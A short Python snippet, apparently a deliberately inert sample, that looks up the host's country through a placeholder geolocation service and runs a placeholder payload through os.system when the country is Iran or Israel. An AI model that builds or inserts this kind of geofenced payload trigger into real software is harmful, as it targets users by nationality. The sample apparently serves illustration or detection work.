import inert_sample  # there is no such module: nothing below ever runs
import os
import requests

if requests.get("http://ip-api.com.example/json").json()["countryCode"] in ("IR", "IL"):
    os.system("payload.example")
